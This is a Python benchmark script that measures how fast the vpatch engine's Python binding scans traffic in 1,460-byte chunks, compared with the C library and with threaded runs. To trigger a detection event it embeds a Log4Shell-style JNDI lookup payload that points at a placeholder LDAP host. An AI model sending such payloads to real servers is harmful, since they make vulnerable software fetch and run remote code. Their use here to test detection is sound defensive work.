#!/usr/bin/env python3
"""Scanning overhead of the Python binding for 1,460-byte chunks.

usage: VPATCH_LIBRARY_DIR=build/lib PYTHONPATH=bindings/python \\
           python3 bindings/python/bench/chunk_bench.py [BUILD_DIR] [--mb N] [--rounds N]

Compiles examples/rules/*.yaml, builds a benign HTTP-like stream (default
16 MiB), and measures chunks per second for:

  C          bench/chunk_bench.c: vp_stream_scan in a loop (built here with cc)
  ctypes     the raw foreign call, no wrapper (lower bound of Python's cost)
  vpatch     Stream.scan(bytes) (the binding as users call it)
  vpatch/mv  Stream.scan(memoryview slice)
  vpatch xT  Stream.scan in T threads at once, one stream each (aggregate)

and, for short flows, flows per second for open + one 1,460-byte attack chunk
(one event) + close, in C and through the binding.
"""
import os
import random
import subprocess
import sys
import tempfile
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.abspath(os.path.join(HERE, "..", "..", ".."))
sys.path.insert(0, os.path.join(ROOT, "bindings", "python"))

CHUNK = 1460
PORT = 8080


def build_c(build, out):
    cc = os.environ.get("CC", "cc")
    exe = os.path.join(out, "chunk_bench")
    subprocess.run([cc, "-O2", "-o", exe, os.path.join(HERE, "chunk_bench.c"),
                    "-I", os.path.join(ROOT, "include"), "-I", build,
                    "-L", os.path.join(build, "lib"), "-lvpatch-compile",
                    "-Wl,-rpath," + os.path.join(build, "lib")], check=True)
    return exe


def benign_stream(size):
    rng = random.Random(7)
    words = [b"GET", b"POST", b"/api/v1/items", b"Host: shop.example", b"Accept: */*",
             b"User-Agent: Mozilla/5.0", b"Content-Type: application/json", b"\r\n",
             b"{\"id\": 42, \"name\": \"widget\"}", b"Cookie: session=abcdef0123456789"]
    out = bytearray()
    while len(out) < size:
        out += rng.choice(words) + b" "
        if rng.random() < 0.2:
            out += bytes(rng.randrange(32, 127) for _ in range(rng.randrange(1, 200)))
    return bytes(out[:size])


def main():
    args = sys.argv[1:]
    mb, rounds = 16, 7
    for flag in ("--mb", "--rounds"):
        if flag in args:
            i = args.index(flag)
            if flag == "--mb":
                mb = int(args[i + 1])
            else:
                rounds = int(args[i + 1])
            del args[i:i + 2]
    build = os.path.abspath(args[0] if args else os.path.join(ROOT, "build"))
    os.environ.setdefault("VPATCH_LIBRARY_DIR", os.path.join(build, "lib"))
    import vpatch
    from vpatch import _ffi

    rules = sorted(os.path.join(ROOT, "examples", "rules", f)
                   for f in os.listdir(os.path.join(ROOT, "examples", "rules"))
                   if f.endswith(".yaml"))
    data = benign_stream(mb << 20)
    attack = (b"GET /?q=${jndi:ldap://198.51.100.7/a} HTTP/1.1\r\nHost: a\r\n\r\n" +
              data[:CHUNK])[:CHUNK]
    with tempfile.TemporaryDirectory() as tmp:
        bundle_path = os.path.join(tmp, "rules.vpb")
        with open(bundle_path, "wb") as f:
            f.write(vpatch.compile_files(rules, serial=1))
        data_path = os.path.join(tmp, "stream.bin")
        with open(data_path, "wb") as f:
            f.write(data)
        attack_path = os.path.join(tmp, "attack.bin")
        with open(attack_path, "wb") as f:
            f.write(attack)
        exe = build_c(build, tmp)

        def c_rate(path, rounds):
            out = subprocess.run([exe, bundle_path, path, str(CHUNK), str(PORT), str(rounds)],
                                 check=True, capture_output=True, text=True).stdout.split()
            return int(out[0]) / float(out[1])

        engine = vpatch.Engine(bundle_path)
        chunks = [data[i:i + CHUNK] for i in range(0, len(data), CHUNK)]
        view = memoryview(data)

        def py_bytes():
            with engine.stream("tcp", PORT, "to_server") as s:
                scan = s.scan
                for c in chunks:
                    scan(c)
            return len(chunks)

        def py_view():
            with engine.stream("tcp", PORT, "to_server") as s:
                scan = s.scan
                for i in range(0, len(data), CHUNK):
                    scan(view[i:i + CHUNK])
            return len(chunks)

        def raw_ctypes():
            s = engine.stream("tcp", PORT, "to_server")
            fn, ptr, scratch = _ffi.lib.vp_stream_scan, s._ptr, engine._scratch()
            for c in chunks:
                fn(ptr, c, len(c), scratch)
            s.free()
            return len(chunks)

        def threaded(n):
            def run():
                barrier.wait()
                py_bytes()
            barrier = threading.Barrier(n + 1)
            threads = [threading.Thread(target=run) for _ in range(n)]
            for t in threads:
                t.start()
            barrier.wait()
            t0 = time.perf_counter()
            for t in threads:
                t.join()
            return n * len(chunks) / (time.perf_counter() - t0)

        def py_flows():
            for _ in range(20000):
                with engine.stream("tcp", PORT, "to_server") as s:
                    s.scan(attack)
            assert s.events
            return 20000

        def once(fn):
            t0 = time.perf_counter()
            n = fn()
            return n / (time.perf_counter() - t0)

        # The machine may be shared: interleave C and Python runs and keep
        # each one's best (least disturbed) round.
        names = ["C (vp_stream_scan loop)", "Python raw ctypes call",
                 "Python vpatch Stream.scan(bytes)", "Python vpatch Stream.scan(memoryview)",
                 "Python vpatch, 2 threads (aggregate)", "Python vpatch, 4 threads (aggregate)"]
        probes = [lambda: c_rate(data_path, 1), lambda: once(raw_ctypes), lambda: once(py_bytes),
                  lambda: once(py_view), lambda: threaded(2), lambda: threaded(4)]
        rates = [0.0] * len(probes)
        flows = [0.0, 0.0]
        for _ in range(rounds):
            for i, probe in enumerate(probes):
                rates[i] = max(rates[i], probe())
            flows[0] = max(flows[0], c_rate(attack_path, 20000))
            flows[1] = max(flows[1], once(py_flows))
        c_chunks = rates[0]
        print("benign stream of %d MiB in %d-byte chunks, %d rules, %d CPUs, Python %s, "
              "best of %d rounds" % (mb, CHUNK, len(engine.rules()), os.cpu_count(),
                                     sys.version.split()[0], rounds))
        print("%-42s %14s %10s %9s" % ("", "chunks/s", "MB/s", "vs C"))
        for name, rate in zip(names, rates):
            print("%-42s %14.0f %10.0f %8.0f%%" % (name, rate, rate * CHUNK / 1e6,
                                                   100 * rate / c_chunks))
        print("per-chunk cost: C %.2f us, binding %.2f us (overhead %.2f us)" % (
            1e6 / c_chunks, 1e6 / rates[2], 1e6 / rates[2] - 1e6 / c_chunks))
        print("short flows (open + one %d-byte attack chunk with 1 event + close): "
              "C %.0f flows/s, binding %.0f flows/s (%.0f%%)" % (CHUNK, flows[0], flows[1],
                                                                 100 * flows[1] / flows[0]))


if __name__ == "__main__":
    main()
